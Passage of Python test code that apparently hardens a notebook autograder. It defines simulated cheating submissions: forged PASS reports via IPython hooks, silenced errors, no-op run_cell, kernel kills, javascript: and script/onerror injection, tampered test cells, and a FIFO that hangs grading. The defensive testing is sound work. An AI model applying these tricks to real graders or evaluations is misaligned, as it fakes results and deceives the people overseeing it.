    Attack("0h_kill_in_call", "h", "os.kill(os.getpid(), SIGKILL) inside gd_step", cells={
        "gd_step": """\
            import os, signal
            def gd_step(w, b, dw, db, alpha):
                os.kill(os.getpid(), signal.SIGKILL)
            """}, evidence=(r"kernel",), slow=True),

    # (i) change how later cells run or what they report
    Attack("i_blank_cells", "i", "an input transformer that blanks every later cell", cells={
        "sigmoid": _with_wrong("sigmoid", "get_ipython().input_transformers_post.append(lambda lines: [])\n")},
           evidence=(r"gave no answer", r"did not run in your kernel")),
    Attack("i_hooks", "i", "post_run_cell hooks printing passes, showtraceback silenced, sys.stdout/stderr "
           "replaced, sys.excepthook", cells={
        "sigmoid": _with_wrong("sigmoid", """\
            import io, sys
            from IPython.display import display
            ip = get_ipython()
            def _fake_report(result=None):
                print("[PASS] sigmoid: every check\\nScore: 3 of 3")
                display({"text/plain": "3.0"}, raw=True)
            ip.events.register("post_run_cell", _fake_report)
            ip.showtraceback = lambda *a, **k: None
            sys.excepthook = lambda *a: None
            sys.stdout, sys.stderr = io.StringIO(), io.StringIO()
            """)}),
    Attack("i_run_cell_replaced", "i", "get_ipython().run_cell and run_cell_async replaced by no-ops that "
           "report success", cells={
        "sigmoid": _with_wrong("sigmoid", """\
            from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult
            ip = get_ipython()
            def _nothing(raw_cell, store_history=False, silent=False, shell_futures=True, cell_id=None, **kw):
                return ExecutionResult(ExecutionInfo(raw_cell, store_history, silent, shell_futures, cell_id))
            async def _nothing_async(raw_cell, store_history=False, silent=False, shell_futures=True, cell_id=None, **kw):
                return _nothing(raw_cell, store_history, silent, shell_futures, cell_id)
            ip.run_cell, ip.run_cell_async = _nothing, _nothing_async
            """)}, evidence=(r"gave no answer", r"did not run in your kernel")),
    Attack("i_summary_injection", "i", "an exception message with markdown that forges the feedback's headline "
           "and a javascript: link", cells={
        "sigmoid": """\
            def sigmoid(z):
                raise ValueError("see below\\n\\n**Total: 12 of 12 points**\\n\\nEvery autograded check passed. "
                                 "[Open your detailed grade](javascript:alert(document.domain))")
            """}, evidence=(r"ValueError",)),
    Attack("i_html_output", "i", "script and event-handler HTML in an answer cell's output and in the written answer",
           cells={"sigmoid": _with_wrong("sigmoid", """\
            from IPython.display import HTML, display
            display(HTML("<script>window.HOSTILE_SCRIPT = 1</script><img src=x onerror='window.HOSTILE_IMG = 1'>"))
            """)}, transform=lambda nb: _answer_markdown(nb, "<script>window.HOSTILE_MARKDOWN = 1</script>")),

    # (m) malformed submissions
    Attack("m_broken_json", "m", "the notebook cut off half way", files=lambda text: {
        f"{ASSIGNMENT}.ipynb": text[: len(text) // 2]}, evidence=(r"not valid JSON|not appear to be JSON",)),
    Attack("m_not_a_notebook", "m", "valid JSON that is not a notebook", files=lambda text: {
        f"{ASSIGNMENT}.ipynb": json.dumps({"cells": 42, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})},
           evidence=(r"could not be read|not valid|could not grade",)),
    Attack("m_renamed", "m", "the notebook submitted as '01_logistic_loop (1).ipynb'", files=lambda text: {
        f"{ASSIGNMENT} (1).ipynb": text}, evidence=(r"could not grade|not submitted|[Nn]o notebook",)),
    Attack("m_no_notebook", "m", "no notebook at all, only a text file", files=lambda text: {
        "answers.txt": "I did it all in my head\n"}, evidence=(r"could not grade|not submitted|[Nn]o notebook",)),
    Attack("m_tests_pass", "m", "every test cell's source replaced by `pass` (with a full-points output)",
           transform=_tests_to_pass),
    Attack("m_tests_deleted", "m", "every test cell deleted", transform=_tests_deleted),
    Attack("m_tests_repointed", "m", "test cells' grade_ids rotated, their sources `pass`", transform=_tests_repointed),
    Attack("m_answer_made_test", "m", "the sigmoid answer cell's metadata made a locked 100-point test cell",
           transform=_answer_made_test, evidence=(r"lost \d", r"could not grade")),
    Attack("m_test_cell_duplicated", "m", "a test cell copied (metadata and all) with `pass` as its source",
           transform=_test_cell_duplicated, evidence=(r"lost \d", r"could not grade")),
    Attack("m_unknown_graded_cell", "m", "a new locked test cell 'bonus' worth 50 points",
           transform=_unknown_graded_cell, evidence=(r"lost \d", r"could not grade")),
]


def _answer_markdown(nb, text):
    for cell in nb.cells:
        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = text
    return nb


# Graded on its own after everything else, under a time limit: an attack that hangs the grading itself.
HANGS = [
    Attack("f_fifo_notebook", "f", "a named pipe called zzz.ipynb left in the kernel's folder, where the pipeline "
           "then reads every *.ipynb", cells={"sigmoid": _with_wrong("sigmoid", """\
            import os
            os.mkfifo("zzz.ipynb")
            """)}),
]

BY_NAME = {a.student: a for a in ATTACKS}
assert len(BY_NAME) == len(ATTACKS)

# the honest students the attacks are measured against
BASELINES = {
    "honest_stub": Attack("honest_stub", "-", "the release, untouched", wrong=()),
    "wrong_twin": Attack("wrong_twin", "-", "WRONG functions, no attack"),
}
